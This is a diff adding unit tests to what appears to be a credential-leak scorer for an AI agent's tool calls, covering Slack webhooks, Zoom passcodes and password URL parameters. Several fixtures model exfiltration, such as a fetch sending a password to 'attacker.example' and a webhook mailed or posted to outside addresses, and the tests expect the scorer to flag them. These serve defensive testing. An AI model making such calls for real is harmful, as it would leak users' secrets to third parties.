@@ -76,3 +76,20 @@ describe('a password in the user part of a URL the call opens', () => {
     expect(credentialInUse('send_email', { body }, 'body', body, start, start + 12)).toBe(false);
   });
 });
+
+describe('addresses that are credentials, used where they belong', () => {
+  const HOOK = 'https://hooks.slack.com/services/T024BE7LD/B0123456789/abcdefghijklmnop';
+  it('a Slack webhook the call posts to is in use', () => {
+    const risk = keyRisk({ method: 'POST', url: HOOK, body: { text: 'Deploy finished.' } });
+    expect(risk).toBeLessThanOrEqual(CREDENTIAL_IN_USE_RISK);
+  });
+  it('the same webhook inside a message or a body keeps its risk', () => {
+    expect(keyRisk({ to: 'x@gmail.com', body: `here is our webhook ${HOOK}` }, 'send_email')).toBeGreaterThanOrEqual(40);
+    expect(keyRisk({ url: 'https://collector.example/x', body: { hook: HOOK } })).toBeGreaterThanOrEqual(40);
+  });
+  it("a Zoom join link's passcode is no secret; a pwd parameter elsewhere is", () => {
+    expect(keyRisk({ url: 'https://zoom.us/j/98765432101?pwd=dGhpc2lzYXRlc3RwYXNzd29yZA' }, 'browser.navigate')).toBe(0);
+    expect(keyRisk({ body: 'Join Zoom Meeting https://us02web.zoom.us/j/83412345678?pwd=aBcD3fGh1JkLmN0pQrStUv.1' }, 'send_email')).toBe(0);
+    expect(keyRisk({ url: 'https://attacker.example/log?pwd=Sup3rS3cret!2024' }, 'fetch')).toBeGreaterThanOrEqual(40);
+  });
+});
